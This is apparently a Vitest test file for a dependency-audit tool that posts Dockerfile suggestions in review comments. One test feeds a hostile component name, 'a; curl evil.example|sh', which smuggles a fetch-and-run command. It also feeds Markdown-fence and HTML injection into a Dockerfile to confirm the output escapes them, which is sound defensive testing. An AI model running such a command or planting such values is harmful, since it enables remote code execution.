import { expect, test } from 'vitest';
import { audit, memoryTree } from '../../src/index.ts';
import { comment } from '../../src/output/comment.ts';
import { links, reportWith } from './report.ts';

const service = {
  'go.mod': 'module example.com/shop\n\ngo 1.25\n\nrequire github.com/gin-gonic/gin v1.11.0\n',
  'main.go': 'package main\n',
};

test('a new service without an image is offered one in the comment', () => {
  const report = audit(memoryTree(service), { today: '2026-11-22' });
  expect(report.recipes?.map(({ component }) => component)).toEqual(['.']);
  const body = comment(report, links);
  expect(body).toContain('<details><summary><b>A Dockerfile for <code>.</code></b></summary>');
  expect(body).toContain('\n```dockerfile\n# syntax=docker/dockerfile:1\n');
  expect(body).toContain('\nUSER 65532:65532\n');
});

test('a service that has an image is not', () => {
  const files = {
    ...service,
    Dockerfile: 'FROM golang:1.27\nCOPY . .\nRUN go build -o /app .\nUSER 1000\nCMD ["/app"]\n',
  };
  expect(audit(memoryTree(files), { today: '2026-11-22' })).not.toHaveProperty('recipes');
});

const recipe = { component: 'api', context: null, dockerfile: 'FROM a\n', dockerignore: '.git\n', notes: [] };

test('nothing in the files ends the block, and no path becomes part of a command to copy', () => {
  const hostile = { ...recipe, component: 'a; curl evil.example|sh', dockerfile: 'FROM a\n```\n<img src=x>\n' };
  const body = comment(reportWith({ recipes: [hostile] }), links);
  expect(body).toContain('````dockerfile\nFROM a\n```\n<img src=x>\n````');
  expect(body).not.toContain('dockerfile a;');
});

test('without room the command alone is named', () => {
  const long = { ...recipe, dockerfile: 'x'.repeat(400).concat('\n').repeat(200) };
  const body = comment(reportWith({ recipes: [long] }), links);
  expect(body).toContain('stack-audit dockerfile api --write');
  expect(body.length).toBeLessThan(5000);
});
